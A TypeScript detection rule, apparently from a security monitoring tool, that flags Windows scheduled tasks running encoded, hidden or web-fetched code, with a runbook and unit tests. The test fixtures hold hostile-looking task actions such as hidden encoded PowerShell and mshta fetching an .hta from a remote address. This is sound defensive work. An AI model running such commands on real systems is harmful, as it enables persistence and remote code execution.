import { type OddLaunch, oddLaunch } from '../../src/detect/reading/windows-launch.ts'
import { rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'windows.odd-scheduled-task',
  title: 'Scheduled task that runs odd code',
  severity: 'high',
  on: table('scheduled_tasks'),
  attack: ['T1053.005'],
  means:
    'A task runs code that is encoded, fetched from the web or hidden in a script host, or a file from a folder where nobody installs programs. It is the most common way for malware to come back.',
  check:
    "SELECT name, path, action, enabled, datetime(last_run_time, 'unixepoch') AS last_run FROM scheduled_tasks WHERE enabled = 1 ORDER BY last_run_time DESC;",
  benign:
    'Scripts of administrators and of people themselves (those are told as medium), management tools that encode their PowerShell. Updaters in AppData have a folder of their own and are not told.',
  runbook:
    'Decode or read what it runs, and the file. Who made the task (event 4698, and its XML in C:\\Windows\\System32\\Tasks)? Unknown: isolate the host, keep the file and the XML, delete the task, and look for what made it.',
  references: ['https://attack.mitre.org/techniques/T1053/005/'],
  detect: ({ columns }) => columns.enabled !== '0' && odd(columns.action) !== null,
  dynamicSeverity: ({ columns }) => (odd(columns.action)?.sure === true ? 'high' : 'medium'),
  alertTitle: ({ host, columns }) =>
    `Task ${columns.path || columns.name} on ${host} ${odd(columns.action)?.reason}`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.path || columns.name}`,
  context: ({ columns }) => ({ task: columns.path, name: columns.name, action: columns.action }),
  tests: [
    {
      name: 'encoded PowerShell',
      match: true,
      counter: '0',
      columns: task(' powershell.exe -NoP -W Hidden -enc dwBoAG8AYQBtAGkA'),
      title: 'Task \\Updater on test-host runs encoded PowerShell',
      dedup: 'test-host-id \\Updater',
      severity: 'high',
      context: {
        task: '\\Updater',
        name: 'Updater',
        action: ' powershell.exe -NoP -W Hidden -enc dwBoAG8AYQBtAGkA',
      },
    },
    {
      name: 'in a folder to start from',
      match: true,
      columns: task('C:\\Windows\\System32 mshta.exe http://192.0.2.1/a.hta'),
    },
    {
      name: 'in a folder with a blank',
      match: true,
      columns: task('C:\\Program Files\\Example App powershell.exe -enc dwBoAG8AYQBtAGkA'),
    },
    {
      name: 'behind an innocent action',
      match: true,
      columns: task(' C:\\Windows\\System32\\sc.exe query, C:\\Users\\Public\\a.exe /x'),
    },
    { name: 'a script of everyone', match: true, columns: task(' wscript.exe C:\\Users\\Public\\a.vbs') },
    {
      name: 'a person’s own script',
      match: true,
      columns: task(' C:\\Users\\ada\\Documents\\backup.bat'),
      severity: 'medium',
    },
    {
      name: 'an updater',
      match: false,
      columns: task(
        ' C:\\Users\\ada\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe /reporting',
      ),
    },
    {
      name: 'of Windows',
      match: false,
      columns: task(' %windir%\\system32\\rundll32.exe Startupscan.dll,SusRunTask'),
    },
    {
      name: 'a script in Program Files',
      match: false,
      columns: task(
        'C:\\Program Files\\Example powershell.exe -ExecutionPolicy Bypass -File "C:\\Program Files\\Example\\a.ps1"',
      ),
    },
    { name: 'a COM object', match: false, columns: task('') },
    { name: 'disabled', match: false, columns: { ...task(' mshta http://192.0.2.1/a'), enabled: '0' } },
    { name: 'deleted', match: false, action: 'removed', columns: task(' mshta http://192.0.2.1/a') },
  ],
})

/** Actions of a task and blanks of a folder that are looked at: real tasks have one or two. */
const PARTS_MAX = 4
const ACTION_MAX = 4096

/**
 * What is odd about an action: osquery writes the folder to start in, a blank, the program, a blank and the arguments, of
 * all actions with commas between, and quotes nothing.
 */
function odd(action: string): OddLaunch | null {
  for (const one of action
    .slice(0, ACTION_MAX)
    .split(/,(?= |[A-Za-z]:\\|%)/)
    .slice(0, PARTS_MAX)) {
    for (const command of commandsIn(one)) {
      const found = oddLaunch(command)
      if (found !== null) return found
    }
  }
  return null
}

/** The command without its folder: wherever a blank stands before the first program that is named with its ending. */
function commandsIn(action: string): readonly string[] {
  if (action.startsWith(' ') || action === '') return [action.trim()]
  const program = action.toLowerCase().indexOf('.exe')
  const head = program === -1 ? action : action.slice(0, program)
  const commands = [action]
  for (
    let blank = head.indexOf(' ');
    blank !== -1 && commands.length < PARTS_MAX;
    blank = head.indexOf(' ', blank + 1)
  ) {
    commands.push(action.slice(blank + 1))
  }
  return commands
}

function task(action: string) {
  return { name: 'Updater', path: '\\Updater', action, enabled: '1' }
}
